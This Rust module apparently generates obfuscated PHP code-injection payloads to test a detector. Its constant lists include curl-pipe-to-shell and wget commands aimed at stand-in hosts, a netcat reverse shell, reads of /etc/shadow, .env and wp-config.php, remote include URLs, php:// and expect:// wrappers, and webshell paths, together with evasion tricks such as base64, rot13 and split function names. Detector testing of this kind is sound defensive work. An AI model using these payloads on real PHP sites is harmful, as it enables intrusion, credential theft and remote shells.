//! PHP code injection: a call of a dangerous function built from parts — callee form (plain,
//! whitespace or a comment before `(`, parenthesised, string concatenation, variable function,
//! superglobal variable function) × sink × argument form (quoted command, superglobal, decoded
//! string, bare constant, backticks) × context (bare, `<?php ?>`, `<?= ?>`, string break-out,
//! statement chain) — plus the non-call forms: `include` of a URL, stream wrappers, backtick
//! echo and webshell paths. Mutations: PHP's case-insensitive function names and transport
//! encodings.

use crate::mutate::{join, random_case, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct PhpInjection;

const EXEC_SINKS: &[&str] = &["system", "passthru", "shell_exec", "exec", "popen", "proc_open", "pcntl_exec"];
const PROBE_SINKS: &[&str] =
    &["file_exists", "readfile", "file_get_contents", "highlight_file", "show_source", "fopen", "var_dump", "print_r", "scandir", "unlink"];
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "ls -la",
    "cat /etc/passwd",
    "uname -a",
    "pwd",
    "netstat -an",
    "ps aux",
    "cat /etc/hosts",
    "dir",
    "ipconfig",
    "curl http://203.0.113.7/s.sh|sh",
    "wget -qO- http://evil.example/x",
    "echo pwned",
    "nc -e /bin/sh 198.51.100.4 4444",
    "ifconfig",
];
const FILES: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "index.php",
    "../config.php",
    "wp-config.php",
    "/proc/self/environ",
    ".env",
    "C:\\Windows\\win.ini",
    "/var/www/html/.htaccess",
];
const SUPERGLOBALS: &[&str] = &["$_GET", "$_POST", "$_REQUEST", "$_COOKIE", "$_SERVER"];
const WEBSHELLS: &[&str] =
    &["c99", "r57", "b374k", "wso", "alfa", "c99shell", "r57shell", "indoxploit", "webshell", "shell", "cmd", "phpspy", "priv8"];
const DIRS: &[&str] = &[
    "",
    "/uploads",
    "/wp-content/uploads/2024/03",
    "/images",
    "/tmp",
    "/wp-content/plugins/akismet",
    "/files",
    "/media/cache",
    "/assets/img",
];

impl Family for PhpInjection {
    fn name(&self) -> &'static str {
        "php-injection"
    }

    fn detector(&self) -> &'static str {
        "php-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let mut payload = match rng.below(10) {
            0 => other_form(rng, &mut names),
            _ => call(rng, &mut names),
        };
        if rng.chance(0.3) {
            // PHP function names and keywords are case-insensitive.
            payload = case_names(rng, &payload);
            names.push("case");
        }
        let (encoded, layer) = transport_layer(rng, &payload);
        names.push(layer);
        Variant { family: "php-injection", mutation: join(&names), payload: encoded, carrier: Carrier::Value }
    }
}

fn quote(rng: &mut Rng, text: &str) -> String {
    if rng.chance(0.5) {
        format!("'{text}'")
    } else {
        format!("\"{text}\"")
    }
}

/// A string-building expression for `text`: a literal, a decoded string, a superglobal.
fn argument(rng: &mut Rng, text: &str, names: &mut Vec<&'static str>) -> String {
    match rng.below(8) {
        0 => {
            names.push("arg-superglobal");
            let global = *rng.pick(SUPERGLOBALS);
            let key = *rng.pick(&["c", "cmd", "x", "0"]);
            format!("{global}[{}]", quote(rng, key))
        }
        1 => {
            names.push("arg-base64");
            format!("base64_decode({})", quote(rng, &crate::mutate::base64(text.as_bytes())))
        }
        2 => {
            names.push("arg-rot13");
            format!("str_rot13({})", quote(rng, &rot13(text)))
        }
        3 if text.bytes().all(|b| b.is_ascii_alphanumeric()) => {
            names.push("arg-bare");
            text.to_string()
        }
        4 => {
            names.push("arg-concat");
            let cut = text.len() / 2;
            let (a, b) = text.split_at(cut.max(1).min(text.len()));
            format!("{}.{}", quote(rng, a), quote(rng, b))
        }
        _ => quote(rng, text),
    }
}

/// The callee spelled one of the ways PHP accepts, with the call's opening `(`.
fn callee(rng: &mut Rng, sink: &str, names: &mut Vec<&'static str>) -> (String, String) {
    const GAPS: &[&str] = &[" ", "  ", "\t", "\n", "/**/", "/* x */", " /**/ ", "#\n"];
    let gap = |rng: &mut Rng| GAPS[rng.below(GAPS.len())];
    match rng.below(11) {
        0 | 1 => (String::new(), format!("{sink}(")),
        9 => {
            names.push("namespace-callee");
            (String::new(), format!("\\{sink}("))
        }
        10 => {
            // PHP 7 reads bare words as strings: `(sy.(st).em)(id)`.
            names.push("bare-concat-callee");
            let cut = rng.range(1, sink.len() - 1);
            let (a, b) = sink.split_at(cut);
            (String::new(), format!("({a}.({b}))("))
        }
        2 => {
            names.push("gap-before-paren");
            (String::new(), format!("{sink}{}(", gap(rng)))
        }
        3 => {
            names.push("paren-callee");
            (String::new(), format!("({sink}){}(", if rng.chance(0.3) { gap(rng) } else { "" }))
        }
        4 => {
            names.push("string-callee");
            let cut = rng.range(1, sink.len() - 1);
            let (a, b) = sink.split_at(cut);
            let callee = format!("{}.{}", quote(rng, a), quote(rng, b));
            if rng.chance(0.5) {
                (String::new(), format!("({callee})("))
            } else {
                (String::new(), format!("{callee}("))
            }
        }
        5 | 6 => {
            names.push("variable-function");
            let var = rng.pick(&["$f", "$a", "$x", "$_", "$func", "$fn", "$c"]);
            let cut = rng.range(1, sink.len() - 1);
            let (a, b) = sink.split_at(cut);
            let value = if rng.chance(0.5) { quote(rng, sink) } else { format!("{}.{}", quote(rng, a), quote(rng, b)) };
            (format!("{var}={value};"), format!("{var}("))
        }
        7 => {
            names.push("superglobal-callee");
            let g = rng.pick(SUPERGLOBALS);
            (String::new(), format!("{g}[{}](", rng.pick(&["0", "'f'", "\"a\"", "f", "1"])))
        }
        _ => {
            names.push("call-user-func");
            (String::new(), format!("call_user_func({},", quote(rng, sink)))
        }
    }
}

fn call(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    let (prefix, open, args) = match rng.below(10) {
        0..=4 => {
            let sink = *rng.pick(EXEC_SINKS);
            let (prefix, open) = callee(rng, sink, names);
            let cmd = *rng.pick(COMMANDS);
            let mut args = argument(rng, cmd, names);
            if sink == "popen" {
                args.push_str(",'r'");
            }
            (prefix, open, args)
        }
        5 | 6 => {
            let sink = *rng.pick(PROBE_SINKS);
            let (prefix, open) = callee(rng, sink, names);
            let file = *rng.pick(FILES);
            (prefix, open, argument(rng, file, names))
        }
        7 => {
            names.push("eval");
            let sink = *rng.pick(&["eval", "assert"]);
            let cmd = *rng.pick(COMMANDS);
            let inner = format!("system({});", quote(rng, cmd));
            let (prefix, open) = callee(rng, sink, names);
            (prefix, open, argument(rng, &inner, names))
        }
        8 => {
            names.push("probe");
            let n = rng.range(1, 99_999);
            let probe = match rng.below(10) {
                0 => format!("print(md5({n}))"),
                1 => format!("echo md5('{n}');"),
                2 => format!("die(sha1({n}))"),
                _ => rng
                    .pick(&[
                        "phpinfo()",
                        "posix_getpwuid(posix_geteuid())",
                        "php_uname()",
                        "getcwd()",
                        "var_dump(md5(1))",
                        "print_r(scandir('.'))",
                        "posix_getpwuid(0)",
                        "phpversion()",
                    ])
                    .to_string(),
            };
            return wrap(rng, &probe, names);
        }
        _ => {
            names.push("create-function");
            let cmd = *rng.pick(COMMANDS);
            let body = format!("system({});", quote(rng, cmd));
            let form = match rng.below(3) {
                0 => format!("create_function('',{})", quote(rng, &body)),
                1 => format!("preg_replace('/.*/e',{},'')", quote(rng, &body)),
                _ => {
                    let sink = *rng.pick(EXEC_SINKS);
                    format!("array_map({},array({}))", quote(rng, sink), quote(rng, cmd))
                }
            };
            return wrap(rng, &form, names);
        }
    };
    let code = format!("{prefix}{open}{args})");
    wrap(rng, &code, names)
}

/// The context the call is injected in.
fn wrap(rng: &mut Rng, code: &str, names: &mut Vec<&'static str>) -> String {
    match rng.below(9) {
        0 => {
            names.push("php-open");
            format!("<?php {code}; ?>")
        }
        1 => {
            names.push("short-echo");
            format!("<?={code}?>")
        }
        2 => {
            names.push("string-breakout");
            let q = rng.pick(&["'", "\""]);
            format!("{q}.{code}.{q}")
        }
        3 => {
            names.push("statement");
            format!("{};{code};{}", rng.pick(&["1", "x", "''", "0"]), rng.pick(&["//", "#", "", "?>"]))
        }
        4 => {
            names.push("complex-string");
            format!("${{{code}}}")
        }
        _ => code.to_string(),
    }
}

/// Non-call forms: include of a remote file, wrappers, backtick echo, webshell paths.
fn other_form(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    match rng.below(4) {
        0 => {
            names.push("include-url");
            let kw = rng.pick(&["include", "require", "include_once", "require_once"]);
            let url = format!(
                "{}://{}/{}.txt",
                rng.pick(&["http", "https", "ftp"]),
                rng.pick(&["evil.example", "198.51.100.9", "pastebin.example"]),
                rng.range(1, 9999)
            );
            if rng.chance(0.5) {
                format!("<?php {kw}({}); ?>", quote(rng, &url))
            } else {
                format!("{kw} {};", quote(rng, &url))
            }
        }
        1 => {
            names.push("stream-wrapper");
            match rng.below(4) {
                0 => format!("php://filter/convert.base64-encode/resource={}", rng.pick(FILES)),
                1 => format!("php://filter/read=string.rot13/resource={}", rng.pick(FILES)),
                2 => format!("expect://{}", rng.pick(&["id", "whoami", "ls", "uname"])),
                _ => "php://input".to_string(),
            }
        }
        2 => {
            names.push("backtick");
            let cmd = rng.pick(COMMANDS);
            if rng.chance(0.5) {
                format!("<?php echo `{cmd}`; ?>")
            } else {
                format!("<?=`{cmd}`?>")
            }
        }
        _ => {
            names.push("webshell-path");
            let name = rng.pick(WEBSHELLS);
            let name = if rng.chance(0.3) { name.to_uppercase() } else { name.to_string() };
            let query = rng.pick(&["", "?act=ls", "?cmd=id", "?p=/etc", "?a=FilesMan", "?x=1"]);
            format!("{}/{name}.php{query}", rng.pick(DIRS))
        }
    }
}

/// Random case on letters outside quotes (strings keep their case: the command needs it).
fn case_names(rng: &mut Rng, text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut quote: Option<char> = None;
    let mut word = String::new();
    for c in text.chars() {
        if quote.is_none() && (c.is_ascii_alphanumeric() || c == '_') {
            word.push(c);
            continue;
        }
        out.push_str(&if word.is_empty() { String::new() } else { random_case(rng, &word) });
        word.clear();
        match quote {
            Some(q) if c == q => quote = None,
            None if c == '\'' || c == '"' || c == '`' => quote = Some(c),
            _ => {}
        }
        out.push(c);
    }
    out.push_str(&random_case(rng, &word));
    out
}

fn rot13(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a' + 13) % 26) + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A' + 13) % 26) + b'A') as char,
            _ => c,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn many_distinct_variants() {
        let variants = crate::sample(&PhpInjection, 1, 3000);
        let distinct: std::collections::HashSet<_> = variants.iter().map(|v| v.payload.as_str()).collect();
        assert!(distinct.len() > 2000, "{}", distinct.len());
        assert_eq!(crate::mutate::base64(b"id"), "aWQ=");
    }
}
